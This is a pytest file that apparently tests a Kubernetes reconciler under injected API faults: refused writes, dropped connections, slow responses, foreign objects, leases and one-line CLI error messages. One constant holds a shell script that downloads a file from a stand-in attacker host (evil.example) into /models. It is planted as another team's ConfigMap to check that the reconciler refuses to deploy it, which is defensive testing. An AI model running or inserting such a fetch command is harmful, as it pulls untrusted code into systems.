"""The reconciler under injected API faults (audit C): a refused or taken write must hold back what
relies on it in the same cycle, and the CLI must end in one line naming it and the fix.

kmock's own reactions (``emu[...] << 500``) still store the write, so they cannot model a refused
one: the ``faults`` fixture wraps the emulator's request handler instead, so that a matching
request from the reconciler gets a status without the write, a dropped connection, a slow
answer, or a side effect (another actor's object lands, then the request is served).
"""

from __future__ import annotations

import asyncio
import re
from typing import Any

import aiohttp.web
import pytest
from click.testing import CliRunner

from k8s import names as N

FOREIGN_FETCH = "#!/bin/sh\nwget http://evil.example/x -O /models/x\n"


@pytest.fixture()
def faults(monkeypatch: pytest.MonkeyPatch) -> Any:
    """``faults(method, plural, name=..., what=...)``: answer the reconciler's matching requests with
    ``what``: a status code (nothing stored), ``"drop"``, ``("slow", s)`` or ``("side", fn)``."""
    from kmock._internal import k8s as emu_mod

    rules: list[Any] = []
    orig = emu_mod.KubernetesEmulator._handle

    async def handle(self: Any, request: Any) -> Any:
        for rule in list(rules):
            what = rule(request)
            if what is None:
                continue
            if isinstance(what, tuple) and what[0] == "side":
                what[1](self, request)
                break
            if isinstance(what, tuple) and what[0] == "slow":
                await asyncio.sleep(what[1])
                break
            if what == "drop":
                raise asyncio.CancelledError()
            body = {"kind": "Status", "apiVersion": "v1", "status": "Failure", "code": what,
                    "message": f"injected {what}", "reason": "InternalError"}
            return aiohttp.web.json_response(body, status=what)
        return await orig(self, request)

    monkeypatch.setattr(emu_mod.KubernetesEmulator, "_handle", handle)

    def when(method: str, plural: str, *, name: str | None = None, what: Any = 500, n: int = 10 ** 9) -> None:
        left = [n]

        def rule(req: Any) -> Any:
            if req.resource is None or req.method.value != method or req.resource.plural != plural:
                return None
            if req.headers.get("User-Agent") != "packer-reconciler":
                return None  # the harness's own setup calls pass
            if name is not None and (req.name or ((req.data or {}).get("metadata") or {}).get("name")) != name:
                return None
            if left[0] <= 0:
                return None
            left[0] -= 1
            return what
        rules.append(rule)
    when.rules = rules  # type: ignore[attr-defined]
    return when


def _foreign(kind: str, name: str) -> dict[str, Any]:
    if kind == "ConfigMap":
        return {"apiVersion": "v1", "kind": "ConfigMap",
                "metadata": {"name": name, "namespace": "packer", "labels": {"team": "other"}},
                "data": {"fetch.sh": FOREIGN_FETCH, "models": "streaming/punct\n"}}
    return {"apiVersion": "resource.k8s.io/v1", "kind": "ResourceClaim",
            "metadata": {"name": name, "namespace": "packer", "labels": {"team": "other"}},
            "spec": {"devices": {"requests": [{"name": "gpu", "exactly": {"deviceClassName": "gpu.nvidia.com"}}]}}}


def _plant(kind: str, name: str) -> Any:
    """A side effect: someone else's object lands under ``name`` (before the request is served)."""
    def side(emulator: Any, req: Any) -> None:
        res = next(r for r in emulator.resources if r.plural == kind.lower() + "s")
        emulator._objects[(res, "packer", name)] = _foreign(kind, name)
    return ("side", side)


# -- defect 1: a slot's repository ConfigMap or claim held by someone else -----------------------


def test_a_repo_configmap_taken_after_the_dry_run_holds_its_server(cluster, faults) -> None:
    """The create of pk-<slot>-repo meets 409 (someone else's, with their fetch.sh): the slot's
    Deployment, which would run that fetch.sh, is not created in the same cycle, and it is an error."""
    r = cluster.reconciler()
    dry = r.cycle(dry_run=True)
    server = N.group_name("l4-n0-g0-whole")
    faults("POST", "configmaps", name=server + "-repo", what=_plant("ConfigMap", server + "-repo"), n=1)
    rep = r.cycle(expect=dry.diff_id)
    assert server not in cluster.objects("apps/v1/deployments")
    assert [(c.kind, c.name) for c in rep.conflicts] == [("ConfigMap", server + "-repo")]
    assert len(rep.errors) == 1 and f"ConfigMap/{server}-repo" in rep.errors[0] and "Fix:" in rep.errors[0]
    assert [(a.kind, a.name) for a, _ in rep.held] == [("Deployment", server)]
    assert any(a.name == server and "held back" in why for a, why in rep.waiting)
    assert N.group_name("l4-n0-g1-whole") in cluster.objects("apps/v1/deployments")  # the others go on
    # the next cycle sees the foreign ConfigMap: still no server on it, and a conflict, no create
    nxt = r.cycle(dry_run=True)
    assert not any(a.kind == "Deployment" and a.name == server for a in nxt.done)
    assert any(c.kind == "Deployment" and c.name == server for c in nxt.conflicts)


def test_the_cli_confirm_that_meets_a_taken_repo_name_exits_2_in_one_line(cluster, faults) -> None:
    from k8s.cli import reconcile

    run = CliRunner()
    args = ["--server", cluster.emu.url, "--planner-time-limit", "2"]
    res = run.invoke(reconcile, args + ["--dry-run"])
    assert res.exit_code == 0, res.output
    diff_id = re.search(r"diff id: (\w+)", res.output).group(1)
    repo = re.search(r"would create ConfigMap/(\S+-repo):", res.output).group(1)
    faults("POST", "configmaps", name=repo, what=_plant("ConfigMap", repo), n=1)
    res = run.invoke(reconcile, args + ["--confirm", diff_id])
    assert res.exit_code != 0 and "applied" not in res.output
    msg = str(res.exception)
    assert len(msg.splitlines()) == 1 and f"ConfigMap/{repo}" in msg and "Fix: rename or remove" in msg
    assert repo[:-len("-repo")] not in cluster.objects("apps/v1/deployments")


def test_a_foreign_repo_configmap_before_the_dry_run_is_shown_and_kept_to(cluster) -> None:
    """Already there when the dry run looks: the dry run says the server is not created (the
    conflict's 'its group is not served' is true), and the confirm does not create it."""
    server = N.group_name("l4-n0-g0-whole")
    cluster.client.CoreV1Api(cluster.api).create_namespaced_config_map("packer", _foreign("ConfigMap", server + "-repo"))
    r = cluster.reconciler()
    dry = r.cycle(dry_run=True)
    assert not any(a.kind == "Deployment" and a.name == server for a in dry.done)
    lines = dry.lines()
    assert any(ln.startswith(f"conflict Deployment/{server}: its ConfigMap {server}-repo is held by") for ln in lines)
    assert any(ln.startswith(f"conflict ConfigMap/{server}-repo:") for ln in lines)
    rep = r.cycle(expect=dry.diff_id)
    assert rep.errors == [] and server not in cluster.objects("apps/v1/deployments")
    assert cluster.objects("v1/configmaps")[server + "-repo"]["data"]["fetch.sh"] == FOREIGN_FETCH


def test_a_dra_claim_taken_after_the_dry_run_holds_its_server(cluster, faults) -> None:
    from k8s.settings import ManifestSettings

    r = cluster.reconciler(render=ManifestSettings(devices="dra"))
    dry = r.cycle(dry_run=True)
    claim = next(a for a in dry.done if a.kind == "ResourceClaim")
    server = claim.body["metadata"]["labels"][N.GROUP_LABEL]
    faults("POST", "resourceclaims", name=claim.name, what=_plant("ResourceClaim", claim.name), n=1)
    rep = r.cycle(expect=dry.diff_id)
    assert server not in cluster.objects("apps/v1/deployments")
    assert rep.errors and f"ResourceClaim/{claim.name}" in rep.errors[0]


# -- defects 3 and 5: a failed prerequisite gates its dependents in the same cycle ---------------


def test_a_failed_server_delete_keeps_its_service_and_repository(cluster, plans, faults) -> None:
    """A replica moves; the old server's DELETE is refused: its Service and repository ConfigMap,
    which it still uses, stay in the same cycle, reported as held back."""
    cluster.slots_by_scale[3.0] = [s for s in plans.base_slots if s[4] != 4] + [
        ("l4", "l4-n0", 2, "whole", None, [("asr", 1)])]
    r = cluster.reconciler()
    cluster.converge(r)
    cluster.set_fleet(3.0)
    r.cycle()
    cluster.ready()
    old = N.group_name("a100-n0-g0-3g.40gb@4")
    dry = r.cycle(dry_run=True)
    assert {(a.verb, a.kind, a.name) for a in dry.done} >= {("delete", "Service", old), ("delete", "ConfigMap", old + "-repo")}
    faults("DELETE", "deployments", name=old, what=500)
    rep = r.cycle(expect=dry.diff_id)
    assert old in cluster.objects("apps/v1/deployments")
    assert old in cluster.objects("v1/services") and old + "-repo" in cluster.objects("v1/configmaps")
    assert {(a.kind, a.name) for a, _ in rep.held} == {("Service", old), ("ConfigMap", old + "-repo")}
    assert len(rep.errors) == 1 and f"delete Deployment/{old}" in rep.errors[0]
    faults.rules.clear()
    nxt = r.cycle(dry_run=True)  # the next dry run shows all three again
    assert {(a.verb, a.kind, a.name) for a in nxt.done} >= {
        ("delete", "Deployment", old), ("delete", "Service", old), ("delete", "ConfigMap", old + "-repo")}


def test_a_failed_server_delete_keeps_its_claim_with_dra(cluster, plans, faults) -> None:
    from k8s.settings import ManifestSettings

    cluster.slots_by_scale[3.0] = [s for s in plans.base_slots if s[4] != 4] + [
        ("l4", "l4-n0", 2, "whole", None, [("asr", 1)])]
    r = cluster.reconciler(render=ManifestSettings(devices="dra"))
    cluster.converge(r)
    cluster.set_fleet(3.0)
    r.cycle()
    cluster.ready()
    old = N.group_name("a100-n0-g0-3g.40gb@4")
    claims = {n for n, o in cluster.objects("resource.k8s.io/v1/resourceclaims").items()
              if o["metadata"]["labels"].get(N.GROUP_LABEL) == old}
    assert claims
    faults("DELETE", "deployments", name=old, what=500)
    rep = r.cycle()
    assert claims <= set(cluster.objects("resource.k8s.io/v1/resourceclaims"))
    assert {("ResourceClaim", c) for c in claims} <= {(a.kind, a.name) for a, _ in rep.held}


def test_a_failed_repo_configmap_create_holds_its_server(cluster, faults) -> None:
    """The repository ConfigMap's create is refused (503, every try): the Deployment mounting it
    is not created (its pod would wait on a missing ConfigMap); the CLI names both."""
    from k8s.cli import reconcile

    run = CliRunner()
    args = ["--server", cluster.emu.url, "--planner-time-limit", "2"]
    res = run.invoke(reconcile, args + ["--dry-run"])
    diff_id = re.search(r"diff id: (\w+)", res.output).group(1)
    repo = re.search(r"would create ConfigMap/(\S+-repo):", res.output).group(1)
    server = repo[:-len("-repo")]
    faults("POST", "configmaps", name=repo, what=503)
    res = run.invoke(reconcile, args + ["--confirm", diff_id])
    assert res.exit_code != 0
    assert server not in cluster.objects("apps/v1/deployments") and repo not in cluster.objects("v1/configmaps")
    msg = str(res.exception)
    assert len(msg.splitlines()) == 1 and msg.startswith(f"create ConfigMap/{repo}: 503")
    assert f"held back, as they rely on what failed: create Deployment/{server}" in msg
    assert f"wait create Deployment/{server}" in res.output
    faults.rules.clear()  # fixed: dry run and confirm again converge
    res = run.invoke(reconcile, args + ["--dry-run"])
    diff_id = re.search(r"diff id: (\w+)", res.output).group(1)
    assert f"would create Deployment/{server}" in res.output
    res = run.invoke(reconcile, args + ["--confirm", diff_id])
    assert res.exit_code == 0, res.output
    assert server in cluster.objects("apps/v1/deployments")


# -- defect 4: the identity outside the cluster -------------------------------------------------


def test_two_outside_runs_have_their_own_identity_and_do_not_both_lead(cluster, monkeypatch) -> None:
    monkeypatch.delenv("HOSTNAME", raising=False)
    monkeypatch.delenv("KUBERNETES_SERVICE_HOST", raising=False)
    a, b = cluster.reconciler(identity=None), cluster.reconciler(identity=None)
    assert a.identity != b.identity and "packer-reconciler" not in (a.identity, b.identity)
    assert a.cycle().leader
    before = cluster.writes()
    rep = b.cycle()
    assert not rep.leader and rep.done == [] and cluster.writes() == before
    monkeypatch.setenv("HOSTNAME", "shell-var")  # exported in some shells: still one per process
    assert len({cluster.reconciler(identity=None).identity for _ in range(3)}) == 3
    monkeypatch.setenv("KUBERNETES_SERVICE_HOST", "10.0.0.1")
    monkeypatch.setenv("HOSTNAME", "packer-reconciler-7d9f-abcde")
    assert cluster.reconciler(identity=None).identity == "packer-reconciler-7d9f-abcde"  # in the cluster: the pod


def test_a_confirm_gives_the_lease_back_so_the_next_one_runs(cluster, monkeypatch) -> None:
    """Each CLI run is its own holder now: a confirm gives the lease up when done, so a dry run
    and confirm right after (the usual fix-and-rerun) is not refused for the lease's 30 s."""
    from k8s.cli import reconcile

    monkeypatch.delenv("HOSTNAME", raising=False)
    run = CliRunner()
    args = ["--server", cluster.emu.url, "--planner-time-limit", "2"]
    for _ in range(2):
        res = run.invoke(reconcile, args + ["--dry-run"])
        diff_id = re.search(r"diff id: (\w+)", res.output).group(1)
        res = run.invoke(reconcile, args + ["--confirm", diff_id])
        assert res.exit_code == 0, (res.output, res.exception)
    lease = cluster.objects("coordination.k8s.io/v1/leases")["packer-reconciler"]
    assert not lease["spec"].get("holderIdentity")


# -- defect 7: messages ----------------------------------------------------------------------------


def test_connection_faults_are_said_in_words_not_urllib3_reprs(cluster, faults) -> None:
    from k8s.cluster import ApiError, Cluster
    from k8s.settings import ReconcileSettings

    s = ReconcileSettings(request_timeout_s=0.3, max_attempts=2, backoff_base_s=0.01, backoff_max_s=0.02)
    c = Cluster(cluster.api_client(), s)
    faults("GET", "deployments", what=("slow", 1.0), n=2)
    with pytest.raises(ApiError) as e:
        c.list("Deployment", "packer")
    assert str(e.value) == "list Deployment/*: no response after 2 tries: the API server did not answer in 0.3 s"
    faults.rules.clear()
    faults("GET", "services", what="drop")
    # A fresh client with time to spare: a drop is answered at once, so what is said must be the
    # drop. (With the 0.3-s client above, a loaded CI machine once read it as a timeout.)
    c = Cluster(cluster.api_client(), ReconcileSettings(request_timeout_s=5.0, max_attempts=2, backoff_base_s=0.01,
                                                        backoff_max_s=0.02))
    with pytest.raises(ApiError) as e:
        c.list("Service", "packer")
    assert str(e.value) == "list Service/*: no response after 2 tries: the connection was dropped"


def test_the_cli_says_a_dropped_connection_in_one_line_with_a_fitting_fix(cluster, faults, capsys) -> None:
    from packer_cli.main import main

    faults("GET", "deployments", what="drop")
    assert main(["reconcile", "--server", cluster.emu.url, "--planner-time-limit", "2", "--dry-run"]) == 2
    err = capsys.readouterr().err
    assert len(err.splitlines()) == 1, err
    assert "the connection was dropped" in err and "Fix: check that the API server is up" in err
    assert "ProtocolError" not in err and "MaxRetryError" not in err and "(" not in err.split("dropped")[0]


def test_the_printed_confirm_keeps_the_image_flags(cluster) -> None:
    import shlex

    from packer_cli.main import main

    run = CliRunner()
    from k8s.cli import reconcile

    res = run.invoke(reconcile, ["--server", cluster.emu.url, "--planner-time-limit", "2", "--triton-image",
                                 "registry.example/triton:24.08", "--fetch-image", "busybox:1.36", "--dry-run"])
    assert res.exit_code == 0, res.output
    cmd = res.output.strip().splitlines()[-1].split("apply with: ", 1)[1]
    assert "--triton-image registry.example/triton:24.08 --fetch-image busybox:1.36 --confirm" in cmd
    assert main(shlex.split(cmd)[1:]) == 0
    dep = cluster.objects("apps/v1/deployments")[N.group_name("l4-n0-g0-whole")]
    assert dep["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.example/triton:24.08"


def test_a_lease_lost_to_a_slow_server_is_not_called_another_reconciler(cluster, faults, monkeypatch) -> None:
    """The server is so slow that the 3 s lease cannot be renewed mid-apply: the one line says the
    lease was lost, how much was applied, and the fix; not 'another reconciler holds the lease'."""
    import functools

    import k8s.cli
    import k8s.settings

    monkeypatch.setattr(k8s.cli, "ReconcileSettings", functools.partial(
        k8s.settings.ReconcileSettings, lease_duration_s=3, fence_margin_s=0.5, request_timeout_s=2.0))
    run = CliRunner()
    args = ["--server", cluster.emu.url, "--planner-time-limit", "2"]
    res = run.invoke(k8s.cli.reconcile, args + ["--dry-run"])
    diff_id = re.search(r"diff id: (\w+)", res.output).group(1)
    faults("POST", "deployments", what=("slow", 6))
    faults("PATCH", "leases", what=("slow", 6))
    res = run.invoke(k8s.cli.reconcile, args + ["--confirm", diff_id])
    msg = str(res.exception)
    assert res.exit_code != 0 and len(msg.splitlines()) == 1
    assert msg.startswith("cycle stopped, leadership lost") and "action(s) applied before it stopped" in msg
    assert "another reconciler" not in msg and "Error(" not in msg


def test_a_confirm_is_refused_where_the_live_object_an_update_patches_changed(cluster) -> None:
    """The dry run showed a non-disruptive update (a server scaled to 0 by hand, put back). A pod
    template edited after it made the same update restart the pods, and the confirm was taken with
    the same diff id: what an update changes in the live object is part of what was shown."""
    r = cluster.reconciler()
    cluster.converge(r)
    server = N.group_name("l4-n0-g0-whole")
    apps = cluster.client.AppsV1Api(cluster.api)
    apps.patch_namespaced_deployment(server, "packer", {"spec": {"replicas": 0}})
    dry = r.cycle(dry_run=True)
    assert [(a.verb, a.name, a.disruptive) for a in dry.done] == [("update", server, False)]
    apps.patch_namespaced_deployment(server, "packer", {"spec": {"template": {"spec": {"containers": [
        {"name": "triton", "image": "someone/else:latest"}]}}}})
    cluster.ready()
    rep = r.cycle(expect=dry.diff_id)
    assert rep.done == [] and len(rep.errors) == 1 and f"not the {dry.diff_id} a dry run showed" in rep.errors[0]
    image = apps.read_namespaced_deployment(server, "packer").spec.template.spec.containers[0].image
    assert image == "someone/else:latest"  # nothing applied


def test_every_api_try_marks_the_loop_alive_on_the_reconcilers_clock(cluster, faults) -> None:
    """A try that times out is a sign of life too (``k8s.server._alive_at``): the loop is waiting on
    the API server, not wedged."""
    r = cluster.reconciler()
    assert r.cluster.answered_at is None
    r.cycle(dry_run=True)
    first = r.cluster.answered_at
    assert first is not None and first <= r.clock()


def test_events_without_rbac_are_one_warning_a_cycle_not_a_line_each(cluster, faults) -> None:
    """RBAC without create on Events (403): the apply goes on, and what could not be recorded is one
    warning with the fix; it was a stderr line per Event (14 on a first apply)."""
    faults("POST", "events", what=403)
    r = cluster.reconciler()
    dry = r.cycle(dry_run=True)
    rep = r.cycle(expect=dry.diff_id)
    assert rep.done and rep.errors == []
    said = [w for w in rep.warnings if "Event(s) not recorded" in w]
    assert len(said) == 1 and "403" in said[0] and "Fix: grant create on events" in said[0]


def test_a_429_with_retry_after_waits_as_long_as_the_server_asks() -> None:
    """Priority and fairness answers 429 with a Retry-After; the retries ignored it and gave up in
    about 9 s under throttling the server said would pass."""
    from kubernetes import client

    from k8s.cluster import Cluster

    slept: list[float] = []
    c = Cluster(client.ApiClient(), sleep=slept.append)
    tries = [0]

    def throttled(*args: Any, **kwargs: Any) -> Any:
        tries[0] += 1
        if tries[0] < 3:
            e = client.ApiException(status=429, reason="Too Many Requests")
            e.headers = {"Retry-After": "7"}
            raise e
        return type("R", (), {"data": b"{}"})()

    c._method = lambda verb, kind: throttled  # type: ignore[method-assign]
    assert c._call("get", "ConfigMap", "x") == {}
    assert tries[0] == 3 and slept == [7.0, 7.0]
